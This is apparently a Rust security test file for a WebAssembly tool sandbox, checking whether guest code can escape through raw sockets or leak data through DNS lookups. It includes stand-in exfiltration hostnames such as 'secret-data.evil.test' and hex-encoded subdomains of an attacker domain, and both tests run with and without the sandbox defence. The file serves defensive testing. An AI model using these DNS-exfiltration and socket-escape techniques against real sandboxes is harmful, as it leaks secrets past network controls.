//! Attacks past HTTP: sockets of the guest's own, and names that carry data to whoever answers for them.

use serde_json::json;
use tokio::net::UdpSocket;
use wasmtime::{
    Engine, Store,
    component::{Component, Linker, Val},
};
use wasmtime_wasi::{ResourceTable, WasiCtx, WasiCtxBuilder, WasiCtxView, WasiView};

use crate::{
    common::guest,
    spy::{Reply, Spy},
    stage::{Run, Spoils, attack},
    wire::{Ask, GOOD, Net, everything_at, policy},
};

/// What names a guest looks up that has something to tell.
const TELLING: &[&str] = &[
    "localhost",
    "secret-data.evil.test",
    "c2VjcmV0.evil.test",
    "127.0.0.1",
    "::1",
    "",
];

/// What a guest tells that uses every operation on sockets.
async fn tried(run: Run, port: u16) -> String {
    if run.defended {
        let input = json!({ "port": port, "names": TELLING });
        let net = Net::new(run, "").await;
        net.host.load_file(guest("datagrams")).await.unwrap();
        let call = toolcell::ToolCall::new("datagrams", input);
        let result = net.host.call(call).await.unwrap();
        assert!(!result.is_error(), "{result:?}");
        assert_eq!(net.names.asked(), [""; 0], "nor does the host look them up");
        return result.text();
    }
    // No name that leaves this machine.
    let input = json!({ "port": port, "names": ["localhost", "127.0.0.1"] });
    with_sockets(&input.to_string()).await
}

/// The same guest in an engine that hands the machine's network down.
async fn with_sockets(input: &str) -> String {
    struct Open {
        wasi: WasiCtx,
        table: ResourceTable,
    }
    impl WasiView for Open {
        fn ctx(&mut self) -> WasiCtxView<'_> {
            WasiCtxView {
                ctx: &mut self.wasi,
                table: &mut self.table,
            }
        }
    }
    let engine = Engine::default();
    let component = Component::from_file(&engine, guest("datagrams")).unwrap();
    let mut linker = Linker::<Open>::new(&engine);
    wasmtime_wasi::p2::add_to_linker_async(&mut linker).unwrap();
    let wasi = WasiCtxBuilder::new()
        .inherit_network()
        .allow_tcp(true)
        .allow_udp(true)
        .allow_ip_name_lookup(true)
        .build();
    let table = ResourceTable::new();
    let mut store = Store::new(&engine, Open { wasi, table });
    let instance = linker
        .instantiate_async(&mut store, &component)
        .await
        .unwrap();
    let tool = "toolcell:tool/tool@0.1.0";
    let tool = instance.get_export_index(&mut store, None, tool).unwrap();
    let call = instance
        .get_export_index(&mut store, Some(&tool), "call")
        .unwrap();
    let call = instance.get_func(&mut store, call).unwrap();
    let arguments = ["datagrams", input].map(|it| Val::String(it.to_owned()));
    let mut results = [Val::Bool(false)];
    call.call_async(&mut store, &arguments, &mut results)
        .await
        .unwrap();
    format!("{results:?}").replace("\\n", "\n")
}

/// N1: every operation on sockets, and a spy on TCP and UDP that hears of none.
async fn n1(run: Run) -> Spoils {
    let spy = Spy::start(Reply::ok("hello")).await;
    let datagrams = UdpSocket::bind(("127.0.0.1", spy.port)).await.unwrap();
    let told = tried(run, spy.port).await;
    let mut spoils: Spoils = told
        .lines()
        .filter(|line| line.contains(" worked") || line.contains("sending"))
        .map(str::to_owned)
        .collect();
    for one in spy.heard().await {
        spoils.push(format!("{} heard {:?}", one.dialled, one.text()));
    }
    let mut bytes = [0; 64];
    if let Ok(length) = datagrams.try_recv(&mut bytes) {
        spoils.push(format!("a datagram of {length} bytes"));
    }
    spoils
}

attack! { n1:
    attack_n1_thread = THREAD,
    attack_n1_process = PROCESS,
    attack_n1_is_seen_without_its_defence = UNDEFENDED,
}

/// N2: names that carry data, looked up by the guest, and by the host for requests that no rule grants.
async fn n2(run: Run) -> Spoils {
    let spy = Spy::start(Reply::ok("hello")).await;
    let port = spy.port;
    let told = tried(run, port).await;
    let mut spoils: Spoils = told
        .lines()
        .filter(|line| line.contains("looked up"))
        .map(str::to_owned)
        .collect();
    let mut rules = vec![everything_at(&format!("http://{GOOD}:{port}"))];
    if !run.defended {
        rules.push(everything_at(&format!("http://*.evil.test:{port}")));
    }
    let net = Net::new(run, &policy(&rules)).await;
    let data = "736563726574";
    let mut asks = Vec::new();
    for host in [
        format!("{data}.evil.test:{port}"),
        format!("{data}.{GOOD}:{port}"),
        format!("{GOOD}.{data}.evil.test:{port}"),
        format!("{data}.evil.test"),
        format!("{}.evil.test:{port}", "a".repeat(63)),
    ] {
        for method in ["GET", "POST", "CONNECT", "TRACE"] {
            asks.push(Ask::new(method, format!("http://{host}/")));
            asks.push(Ask::new(method, format!("https://{host}/")));
        }
    }
    let told = net.send(&asks).await;
    assert_eq!(told.answers.len(), asks.len(), "{:?}", told.result);
    let asked = net.names.asked();
    spoils.extend(
        asked
            .iter()
            .map(|name| format!("{name} was looked up by the host")),
    );
    spoils
}

attack! { n2:
    attack_n2_thread = THREAD,
    attack_n2_process = PROCESS,
    attack_n2_is_seen_without_its_defence = UNDEFENDED,
}
